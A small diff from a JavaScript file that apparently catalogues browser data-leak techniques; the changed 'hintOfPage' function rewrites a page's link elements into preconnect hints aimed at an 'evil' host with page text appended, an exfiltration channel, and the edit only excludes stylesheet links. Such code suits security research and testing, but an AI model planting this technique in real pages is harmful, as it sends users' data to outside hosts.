@@ -521,7 +521,7 @@ Object.assign(WAYS, {
     }
   },
   hintOfPage: (evil, text) => {
-    for (const own of document.querySelectorAll("link")) {
+    for (const own of document.querySelectorAll("link:not([rel=stylesheet])")) {
       own.rel = "preconnect";
       own.href = `${evil}/hintOfPage?${text}`;
       own.setAttribute("href", `${evil}/hintOfPage?${text}`);
